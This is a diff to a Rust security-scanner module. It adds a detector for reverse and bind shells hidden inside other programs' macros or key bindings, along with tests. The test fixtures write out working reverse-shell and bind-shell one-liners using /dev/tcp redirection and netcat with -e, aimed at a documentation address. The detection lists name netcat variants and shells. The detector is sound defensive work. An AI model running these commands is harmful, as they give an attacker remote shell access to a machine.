@@ -258,6 +258,42 @@ pub(crate) fn connects_shell(code: &str) -> bool {
     calls && has(code, SOCKETS) && has(code, STARTERS) && shell
 }
 
+/// Whether text in which a shell's words stand anywhere, as in another program's
+/// macro or key binding, connects a shell to a network address: a redirection to
+/// `/dev/tcp`, or netcat with a shell.
+pub(crate) fn connects_shell_words(text: &str) -> bool {
+    const REDIRECTIONS: [&str; 3] = [">&", "<&", "&>"];
+    const NETCATS: [&str; 5] = ["nc", "ncat", "netcat", "nc.traditional", "rcat"];
+    let text = head(text);
+    let socket = has(text, &["/dev/tcp/", "/dev/udp/"]) && has(text, &REDIRECTIONS);
+    if !socket && !text.contains("nc") && !text.contains("rcat") {
+        return false;
+    }
+    let part = |each: char| each.is_alphanumeric() || "/_.-".contains(each);
+    let words: Vec<&str> = text.split(|each| !part(each)).filter(|word| !word.is_empty()).collect();
+    let base = |word: &&&str| word.rsplit('/').next().unwrap_or_default().to_owned();
+    let shell = |word: &&&str| is_shell_name(&base(word));
+    if socket && words.iter().any(|word| shell(&word)) {
+        return true;
+    }
+    let starts_shell = |pair: &[&str]| {
+        let flag = pair[0];
+        flag.starts_with('-') && flag.ends_with(['e', 'c']) && shell(&&pair[1])
+    };
+    let netcat = words.iter().position(|word| NETCATS.contains(&base(&word).as_str()));
+    netcat.is_some_and(|at| words[at..].windows(2).take(12).any(starts_shell))
+}
+
+/// Whether a program of this name is a shell, by the plain names.
+fn is_shell_name(name: &str) -> bool {
+    matches!(name, "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "csh" | "tcsh" | "fish")
+}
+
+/// Whether the code is a reverse or bind shell in some language.
+pub(crate) fn is_reverse_shell(code: &str) -> bool {
+    connects_shell_words(code) || inspect(Language::Other, code).contains(&Danger::ReverseShell)
+}
+
 /// Whether the code reads its standard input and evaluates text.
 pub(crate) fn evaluates_input(code: &str) -> bool {
     const INPUTS: &[&str] = &[
@@ -666,6 +702,22 @@ mod tests {
         assert!(inspect(Language::Python, code).contains(&Danger::ReverseShell));
         let plain = r#"import socket;print(socket.gethostname())"#;
         assert_eq!(inspect(Language::Python, plain), []);
+    }
+
+    #[test]
+    fn shell_words_inside_other_text_are_found() {
+        for text in [
+            "macro(/bin/sh -i >& /dev/tcp/192.0.2.1/99 0>&1)",
+            "enter:become(ncat 192.0.2.1 99 -e /bin/bash)",
+            "Pre-Invoke {\"nc -lvp 99 -e /bin/sh\"};",
+        ] {
+            assert!(connects_shell_words(text), "{text}");
+        }
+        for text in
+            ["cat < /dev/tcp/192.0.2.1/99", "sync -e sh", "nc -z host 80", "rsync -e ssh a b"]
+        {
+            assert!(!connects_shell_words(text), "{text}");
+        }
     }
 
     #[test]
